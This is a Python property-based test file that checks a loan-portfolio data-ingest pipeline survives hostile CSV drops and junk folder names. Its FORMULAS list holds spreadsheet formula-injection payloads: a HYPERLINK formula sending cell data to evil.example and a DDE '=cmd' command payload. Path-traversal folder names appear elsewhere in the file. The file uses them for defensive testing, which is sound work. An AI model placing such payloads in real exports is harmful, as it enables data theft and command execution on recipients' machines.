"""Hostile and malformed drops, property-based: ingest never crashes.

Every generated drop goes through the real reader and rule checks
(``orchestration.ingest.pipeline.ingest_drop``, called directly: no Dagster run per
example). The property: no unhandled exception; the drop either lands (each hostile row
landed verbatim or quarantined at its exact line and column) or is rejected with ONE line
that names the file. Folder names that are not real dates are never taken for drops.
"""

from __future__ import annotations

import datetime as dt
import gzip
import shutil
import tempfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hostile_drop import COLUMNS, DAY, FILE_NAMES, encode_csv, ingest, valid_tables, write_hostile_drop

SETTINGS = dict(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                      HealthCheck.too_slow], derandomize=True)

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+51 999 888 777", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1"]
BAD_NUMBERS = ["1e308", "99999999999999999999999.99", "-5.00", "-0.01", "123.456", "NaN", "inf", "1,5",
               "0x1F", " 12", "١٢٣"]
BAD_DATES = ["2026-02-30", "2026-13-01", "30/02/2026", "0000-00-00", "2026-2-3", "03/03/26", "yesterday"]
FUTURE_DATES = ["2099-01-01", "9999-12-31"]
NASTY_TEXT = st.text(alphabet=st.sampled_from(list('ab ñÑáé,;"\'\n\r\t\x00\\|=+-@{}<>`$')) | st.characters(),
                     max_size=40)
HUGE_TEXT = st.sampled_from(["x" * 10_000, ('ñ"\n;,' * 2_000)])

# (extract, column) -> kind of the column, from the contract
DATE_COLUMNS = {("loans", "disbursement_date"), ("loans", "maturity_date"), ("loans", "next_due_date"),
                ("payments", "payment_date")}
MONEY_COLUMNS = {("loans", c) for c in ("original_amount", "outstanding_principal", "overdue_amount",
                                         "installment_amount")} | {("payments", "amount")}
MUTABLE = [(e, c) for e in ("loans", "payments", "customers") for c in COLUMNS[e]]


@pytest.fixture(scope="module")
def runner():
    from orchestration.ingest.schema import DISPLAY_ORDER
    from orchestration.quality.suites import SuiteRunner

    return SuiteRunner(list(DISPLAY_ORDER))


def _fresh() -> Path:
    return Path(tempfile.mkdtemp(prefix="hostile-"))


def _quarantined(cartera, file_prefix: str, line: int) -> set[str]:
    con = duckdb.connect(str(cartera.warehouse_db), read_only=True)
    try:
        return {c for (c,) in con.execute(
            "SELECT column_name FROM raw.quarantine WHERE starts_with(file_name, ?) AND line_number = ?",
            [file_prefix, line]).fetchall()}
    finally:
        con.close()


def _assert_clean_rejection(result) -> None:
    assert result.status == "rejected", result.message
    assert "\n" not in result.message and "\r" not in result.message, result.message
    assert "Traceback" not in result.message
    assert any(name in result.message for name in FILE_NAMES) or DAY in result.message, result.message


cell_values = st.one_of(st.sampled_from(FORMULAS), st.sampled_from(BAD_NUMBERS), st.sampled_from(BAD_DATES),
                        st.sampled_from(FUTURE_DATES), NASTY_TEXT, HUGE_TEXT)


@settings(max_examples=30, **SETTINGS)
@given(target=st.sampled_from(MUTABLE), row=st.integers(0, 5), value=cell_values,
       delimiter=st.sampled_from([",", ";"]), encoding=st.sampled_from(["utf-8", "latin-1"]),
       gz=st.booleans())
def test_a_hostile_cell_lands_verbatim_or_is_quarantined_at_its_line(runner, target, row, value, delimiter,
                                                                      encoding, gz):
    extract, column = target
    tables = valid_tables(DAY)
    tables[extract][row][column] = value
    tmp = _fresh()
    try:
        write_hostile_drop(tmp / "landing", tables, delimiter=delimiter, gzip=gz,
                           encodings={e: encoding for e in tables})
        result, cartera = ingest(tmp, runner)
        if result.status == "rejected":
            _assert_clean_rejection(result)
            return
        for name, f in result.files.items():
            assert f.rows_read == len(tables[name]), (name, f.rows_read)
            assert f.rows_landed + f.rows_quarantined == f.rows_read
        line = row + 2  # header is line 1; a quoted newline still starts the record on its line
        invalid = ((target in DATE_COLUMNS and value in BAD_DATES)
                   or (target in MONEY_COLUMNS and value in BAD_NUMBERS)
                   or (target in {("loans", "disbursement_date"), ("payments", "payment_date")}
                       and value in FUTURE_DATES))
        if invalid:
            assert column in _quarantined(cartera, extract, line), (extract, line, column, value)
        if extract == "customers" and column == "full_name" and encoding == "utf-8" and "\x00" not in value:
            # a formula-like or huge name is data: it lands exactly as sent (publish neutralises it)
            con = duckdb.connect(str(cartera.warehouse_db), read_only=True)
            try:
                landed = con.execute("SELECT full_name FROM raw.customers WHERE customer_id = ?",
                                     [tables["customers"][row]["customer_id"]]).fetchall()
            finally:
                con.close()
            if not _quarantined(cartera, "customers", line):
                assert landed == [(value,)], landed
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


@settings(max_examples=20, **SETTINGS)
@given(extract=st.sampled_from(["loans", "payments", "customers", "fx_rates"]),
       junk=st.binary(max_size=3000), keep_header=st.booleans(), gz=st.booleans())
def test_random_bytes_in_a_file_are_rejected_naming_the_file(runner, extract, junk, keep_header, gz):
    tables = valid_tables(DAY)
    head = (",".join(COLUMNS[extract]) + "\n").encode() if keep_header else b""
    tmp = _fresh()
    try:
        write_hostile_drop(tmp / "landing", tables, gzip=gz, raw_bytes={extract: head + junk})
        result, _ = ingest(tmp, runner)
        # the control promises the real row count: random bytes cannot honour it
        _assert_clean_rejection(result)
        assert extract in result.message, result.message
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


@settings(max_examples=10, **SETTINGS)
@given(extract=st.sampled_from(["loans", "customers"]), delimiter=st.sampled_from(["\t", "|", " ", ":"]),
       split=st.integers(1, 7), gz=st.booleans())
def test_wrong_delimiters_and_mixed_encodings_never_crash(runner, extract, delimiter, split, gz):
    """A file in an unsupported delimiter is rejected naming file and column; a file whose
    lines mix UTF-8 and Latin-1 is read (as Latin-1) or rejected cleanly, never a crash."""
    tables = valid_tables(DAY)
    header = COLUMNS[extract]
    rows = [[str(r.get(c) if r.get(c) is not None else "") for c in header] for r in tables[extract]]
    wrong = encode_csv([header, *rows], delimiter, "utf-8")
    mixed = encode_csv([header, *rows[:split]], ",", "utf-8") + encode_csv(rows[split:], ",", "latin-1")
    for content, must_reject in ((wrong, True), (mixed, False)):
        tmp = _fresh()
        try:
            write_hostile_drop(tmp / "landing", tables, gzip=gz, raw_bytes={extract: content})
            result, cartera = ingest(tmp, runner)
            if must_reject or result.status == "rejected":
                _assert_clean_rejection(result)
                assert f"{extract}.csv" in result.message
            if must_reject:
                assert "required column" in result.message, result.message
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


def test_mixed_encoding_keeps_spanish_names_of_the_latin1_lines(runner, tmp_path):
    """UTF-8 header lines then Latin-1 lines: the Latin-1 names (ñ, accents) survive."""
    tables = valid_tables(DAY)
    header = COLUMNS["customers"]
    rows = [[str(r.get(c) or "") for c in header] for r in tables["customers"]]
    mixed = encode_csv([header, *rows[:1]], ",", "utf-8") + encode_csv(rows[1:], ",", "latin-1")
    write_hostile_drop(tmp_path / "landing", tables, raw_bytes={"customers": mixed})
    result, cartera = ingest(tmp_path, runner)
    assert result.status == "landed", result.message
    con = duckdb.connect(str(cartera.warehouse_db), read_only=True)
    names = {n for (n,) in con.execute("SELECT full_name FROM raw.customers").fetchall()}
    con.close()
    assert {r["full_name"] for r in tables["customers"][1:]} <= names


# ---- landing folder names ------------------------------------------------------------------

JUNK_NAMES = ["../x", "..", "2026-13-01", "2026-02-30", "latest", "2026-3-3", "2026-03-03 ", "2026-03-03.bak",
              "２０２６-03-03", "2026-03-03/..", "%2e%2e", "-2026-03-03"]


@settings(max_examples=50, **SETTINGS)
@given(name=st.one_of(st.sampled_from(JUNK_NAMES), st.text(max_size=20),
                      st.dates().map(lambda d: d.isoformat())))
def test_only_real_calendar_dates_are_drop_names(name):
    from orchestration.ops.landing import parse_drop_name

    day = parse_drop_name(name)
    assert day is None or (isinstance(day, dt.date) and day.isoformat() == name)


def test_junk_folders_in_landing_are_ignored_and_never_ingested(runner, tmp_path):
    """Path-like and non-date folders beside a real drop: only the real date is a drop, and
    ``cartera run`` refuses such names as dates with one line."""
    from orchestration.cli import main
    from orchestration.ops.landing import scan_landing

    landing = tmp_path / "landing"
    write_hostile_drop(landing, valid_tables(DAY))
    for name in ["2026-13-01", "latest", "2026-02-30", "x..y"]:
        write_hostile_drop(landing, valid_tables(DAY), day=name)
    (tmp_path / "x").mkdir()
    (landing / "..x").symlink_to(tmp_path / "x")
    scan = scan_landing(landing)
    assert [d.iso for d in scan.drops] == [DAY]
    assert {"2026-13-01", "latest", "2026-02-30", "x..y"} <= set(scan.junk)
    for bad in ["../x", "2026-13-01", "latest", "2026-02-30"]:
        with pytest.raises(SystemExit) as exited:
            main(["run", "--landing", str(landing), "--warehouse", str(tmp_path / "wh"),
                  "--from", bad, "--to", DAY])
        assert exited.value.code == 2
